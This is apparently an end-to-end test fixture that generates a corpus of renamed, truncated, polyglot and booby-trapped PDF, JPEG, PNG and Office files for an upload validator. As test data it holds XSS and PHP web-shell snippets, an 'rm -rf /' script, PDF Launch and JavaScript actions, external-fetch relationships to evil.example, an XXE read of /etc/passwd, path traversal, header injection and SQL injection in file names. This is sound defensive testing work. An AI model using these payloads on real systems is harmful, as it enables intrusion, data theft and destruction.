import {
  officeFile,
  officeParts,
  packedObjects,
  pdfStream,
  photo,
  plainPdf,
  type ZipPart,
  zipOf,
} from '#e2e/fixtures/files.ts';
import { FILE_KINDS, type FileKind, type FileProblem } from '#src/domain/document.ts';

/** A file as somebody sends it, and what must be said of it. */
export interface CorpusFile {
  what: string;
  name: string;
  type: string;
  bytes: Buffer;
  /** Null where it is taken; several where the reader that finds it first decides. */
  expected: readonly (FileProblem | null)[];
  /** Known from its name, type or first bytes, before anything reads it. */
  isCheap: boolean;
}

const latin = (text: string) => Buffer.from(text, 'latin1');
const typeOf = (kind: FileKind) => FILE_KINDS[kind].contentType;
const nameOf = (kind: FileKind) => `plan.${FILE_KINDS[kind].extensions[0]}`;
const KINDS = ['pdf', 'jpeg', 'png', 'docx', 'xlsx'] as const;

const chunk = (type: string, content: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  return Buffer.concat([length, latin(type), content, Buffer.alloc(4)]);
};
const jpegSegment = (marker: number, text: string) => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([Buffer.from([0xff, marker]), length, latin(text)]);
};
const inside = (bytes: Buffer, at: number, more: Buffer) =>
  Buffer.concat([bytes.subarray(0, at), more, bytes.subarray(at)]);

const MARKUP = [
  '<script>alert(1)</script>',
  '<html><body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src=//evil.example>',
  '<?php system($_GET[0]); ?>',
  '<!DOCTYPE html><p>',
  '*/=1/*javascript:alert(1)',
];

const NAMES_OF_ACTION = [
  '/S/JavaScript/JS(app.alert(1))',
  '/S/Launch/F(cmd.exe)',
  '/Type/EmbeddedFile',
  '/EmbeddedFiles<<>>',
  '/S/SubmitForm/F(https://evil.example)',
  '/S/ImportData/F(x)',
  '/XFA[]',
  '/Subtype/RichMedia',
];

const PROGRAMS: Record<string, Buffer> = {
  'a Windows program': latin('MZ\x90\0\x03\0\0\0program'),
  'a Linux program': latin('\x7fELF\x02\x01\x01\0program'),
  'a page': latin('<!doctype html><script>1</script>'),
  'a drawing': latin('<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>'),
  'a script': latin('#!/bin/sh\nrm -rf /\n'),
  'a moving picture': latin('GIF89a/*\x01\0\x01\0*/=1;alert(1)'),
  'a text': latin('just words and more words'),
  'a database': latin('SQLite format 3\0'),
  'a class': latin('\xca\xfe\xba\xbe\0\0\0\x34'),
  'an old document': latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old'),
  'a film': latin('\0\0\0\x18ftypmp42'),
  'a PDF behind other bytes': Buffer.concat([latin('x'.repeat(200)), plainPdf()]),
};

/** The whole corpus. Shape: the same files each time, more than 400; nothing of it is kept anywhere. */
export async function corpusFiles(): Promise<CorpusFile[]> {
  const good: Record<FileKind, Buffer> = {
    pdf: plainPdf({ pages: 2 }),
    jpeg: await photo('jpeg'),
    png: await photo('png'),
    docx: officeFile('docx'),
    xlsx: officeFile('xlsx'),
  };
  const files: CorpusFile[] = [];
  const add = (
    what: string,
    kind: FileKind,
    bytes: Buffer,
    expected: FileProblem | null | readonly (FileProblem | null)[],
    more: Partial<CorpusFile> = {},
  ) =>
    files.push({
      what,
      name: nameOf(kind),
      type: typeOf(kind),
      bytes,
      expected: Array.isArray(expected) ? expected : [expected as FileProblem | null],
      isCheap: false,
      ...more,
    });
  const cheap = { isCheap: true };

  // Renamed: the bytes of one kind under the name of another.
  for (const claimed of KINDS) {
    for (const [what, bytes] of Object.entries(PROGRAMS)) {
      const isSealed = what === 'an old document' && (claimed === 'docx' || claimed === 'xlsx');
      add(`${what} called ${claimed}`, claimed, bytes, isSealed ? 'encrypted' : 'renamed', cheap);
    }
    for (const real of KINDS.filter((kind) => kind !== claimed)) {
      const isOffice = claimed.endsWith('x') && real.endsWith('x');
      add(`${real} called ${claimed}`, claimed, good[real], 'renamed', { isCheap: !isOffice });
    }
    for (const size of [0, 1, 3, 7])
      add(
        `${size} bytes called ${claimed}`,
        claimed,
        good[claimed].subarray(0, size),
        size === 0 ? 'empty' : ['renamed', 'damaged'],
        cheap,
      );
    for (const type of [
      'text/html',
      'image/svg+xml',
      'application/x-msdownload',
      'text/javascript',
      'application/zip',
    ])
      add(`${claimed} declared as ${type}`, claimed, good[claimed], 'renamed', { ...cheap, type });
  }
  add('a plain archive called docx', 'docx', zipOf([{ name: 'a.txt', content: 'x' }]), 'renamed');

  // Endings that are on no list, around a sound file.
  const endings =
    'html htm xhtml svg xml js mjs css exe dll com scr bat cmd sh php jsp asp zip rar 7z gz jar apk iso gif bmp tiff ico eml mhtml url lnk wasm swf json csv txt pdf.html pdf.exe jpg.svg'.split(
      ' ',
    );
  for (const ending of endings)
    add(`a PDF called .${ending}`, 'pdf', good.pdf, 'wrong-kind', { ...cheap, name: `plan.${ending}` });
  for (const ending of ['heic', 'heif', 'avif', 'webp'])
    add(`.${ending}`, 'jpeg', good.jpeg, 'phone-photo', {
      ...cheap,
      name: `photo.${ending}`,
      type: `image/${ending}`,
    });
  for (const ending of ['doc', 'xls', 'rtf', 'odt', 'ods', 'pages', 'numbers'])
    add(`.${ending}`, 'docx', good.docx, 'old-office', { ...cheap, name: `plan.${ending}` });
  for (const ending of ['docm', 'xlsm', 'dotm', 'xltm', 'xlsb'])
    add(`.${ending}`, 'docx', good.docx, 'macros', { ...cheap, name: `plan.${ending}` });
  for (const name of ['plan', 'plan.', '.pdf.', 'plan.pdf .', 'plan.pdf\u202e', 'plan.ｐｄｆ'])
    add(`called ${JSON.stringify(name)}`, 'pdf', good.pdf, ['wrong-kind', null], { ...cheap, name });

  // Cut off, and broken inside.
  for (const kind of KINDS) {
    for (const share of [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9])
      add(`${kind} cut at ${share}`, kind, good[kind].subarray(0, Math.floor(good[kind].length * share)), [
        'damaged',
        'mixed-content',
        'renamed',
      ]);
    for (const fill of [0, 0x41, 0xff]) {
      const broken = Buffer.from(good[kind]);
      broken.fill(fill, 12);
      add(`${kind} that is ${fill} behind its head`, kind, broken, ['damaged', 'mixed-content', 'renamed']);
    }
  }

  // Two files at once.
  for (const markup of MARKUP) {
    const bytes = latin(markup);
    add(`JPEG then ${markup}`, 'jpeg', Buffer.concat([good.jpeg, bytes]), 'mixed-content');
    add(
      `JPEG with a remark ${markup}`,
      'jpeg',
      inside(good.jpeg, 2, jpegSegment(0xfe, markup)),
      'mixed-content',
    );
    add(
      `JPEG with facts ${markup}`,
      'jpeg',
      inside(good.jpeg, 2, jpegSegment(0xe1, `Exif\0\0${markup}`)),
      'mixed-content',
    );
    add(`PNG then ${markup}`, 'png', Buffer.concat([good.png, bytes]), 'mixed-content');
    add(
      `PNG with a remark ${markup}`,
      'png',
      inside(good.png, 33, chunk('tEXt', latin(`Comment\0${markup}`))),
      'mixed-content',
    );
    add(`PDF then ${markup}`, 'pdf', Buffer.concat([good.pdf, bytes]), 'mixed-content');
    add(`PDF with ${markup} in its head`, 'pdf', inside(good.pdf, 9, latin(`%${markup}\n`)), [
      'mixed-content',
      'damaged',
    ]);
    add(`DOCX then ${markup}`, 'docx', Buffer.concat([good.docx, bytes]), ['mixed-content', 'damaged']);
    add(
      `DOCX with a remark ${markup}`,
      'docx',
      zipOf(officeParts('docx'), { comment: markup }),
      'mixed-content',
    );
  }
  for (const kind of ['jpeg', 'png', 'pdf'] as const)
    add(
      `${kind} then an archive`,
      kind,
      Buffer.concat([good[kind], zipOf([{ name: 'a.class', content: 'x' }])]),
      'mixed-content',
    );
  add('JPEG then a PDF', 'jpeg', Buffer.concat([good.jpeg, good.pdf]), 'mixed-content');

  // PDF that does something, said openly, disguised, packed and hidden.
  for (const action of NAMES_OF_ACTION) {
    const disguised = action.replaceAll(
      /\/([A-Z])/g,
      (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`,
    );
    add(`PDF with ${action}`, 'pdf', plainPdf({ objects: [`<<${action}>>`] }), 'active-content');
    add(`PDF with ${disguised}`, 'pdf', plainPdf({ objects: [`<<${disguised}>>`] }), 'active-content');
    add(
      `PDF with ${action} packed`,
      'pdf',
      plainPdf({ objects: [packedObjects(20, [`<<${action}>>`])] }),
      'active-content',
    );
    add(
      `PDF with ${action} in a stream`,
      'pdf',
      plainPdf({ objects: [pdfStream('', latin(`9 0 obj <<${action}>> endobj`))] }),
      'active-content',
    );
  }

  // Locked.
  for (const filter of ['/Standard', '/Adobe.PubSec', '/Unknown'])
    add(`PDF locked by ${filter}`, 'pdf', plainPdf({ trailer: `/Encrypt<</Filter${filter}>>` }), [
      'encrypted',
      'damaged',
    ]);
  for (const kind of ['docx', 'xlsx'] as const) {
    const [first, ...rest] = officeParts(kind);
    add(
      `${kind} with a locked part`,
      kind,
      zipOf([first as ZipPart, ...rest.map((part) => ({ ...part, isEncrypted: true }))]),
      ['encrypted', 'damaged'],
    );
    for (const name of [
      'word/vbaProject.bin',
      'xl/activeX/activeX1.bin',
      'word/embeddings/oleObject1.bin',
      'xl/macrosheets/sheet1.xml',
      'WORD/VBAPROJECT.BIN',
    ])
      add(`${kind} with ${name}`, kind, officeFile(kind, [{ name, content: 'x' }]), 'macros');
    for (const part of ['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'control'])
      add(
        `${kind} that fetches its ${part}`,
        kind,
        officeFile(kind, [
          {
            name: 'word/_rels/document.xml.rels',
            content: `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${part}" Target="http://evil.example/x" TargetMode="External"/></Relationships>`,
          },
        ]),
        'active-content',
      );
    add(
      `${kind} with entities`,
      kind,
      officeFile(kind, [
        {
          name: 'word/a.xml',
          content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
        },
      ]),
      'active-content',
    );
    add(
      `${kind} that reads a file`,
      kind,
      officeFile(kind, [
        { name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' },
      ]),
      'active-content',
    );
    for (const name of ['../../etc/passwd', '/etc/passwd', 'C:\\x.xml', 'a\\..\\b.xml'])
      add(`${kind} with a part ${name}`, kind, officeFile(kind, [{ name, content: 'x' }]), 'damaged');
    add(
      `${kind} with a part twice`,
      kind,
      officeFile(kind, [
        { name: 'a.xml', content: 'x' },
        { name: 'A.XML', content: 'y' },
      ]),
      'damaged',
    );
    add(
      `${kind} behind other bytes`,
      kind,
      Buffer.concat([good[kind].subarray(0, 4), latin('x'.repeat(100)), good[kind]]),
      ['mixed-content', 'damaged'],
    );
    add(
      `${kind} with macros in its list`,
      kind,
      officeFile(
        kind,
        [],
        '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      ),
      'macros',
    );
  }

  for (const kind of KINDS) {
    add(`a good ${kind}`, kind, good[kind], null);
    add(`a good ${kind} of no declared type`, kind, good[kind], null, { type: 'application/octet-stream' });
    add(`a good ${kind} in capitals`, kind, good[kind], null, { name: nameOf(kind).toUpperCase() });
    for (const name of [
      '../../x',
      'a\r\nSet-Cookie: b',
      '<img src=x onerror=1>',
      '\u202efdp',
      'ñandú 🚀',
      "'; DROP TABLE documents; --",
    ])
      add(`a good ${kind} called ${JSON.stringify(name)}`, kind, good[kind], null, {
        name: `${name}.${FILE_KINDS[kind].extensions[0]}`,
      });
  }
  return files;
}
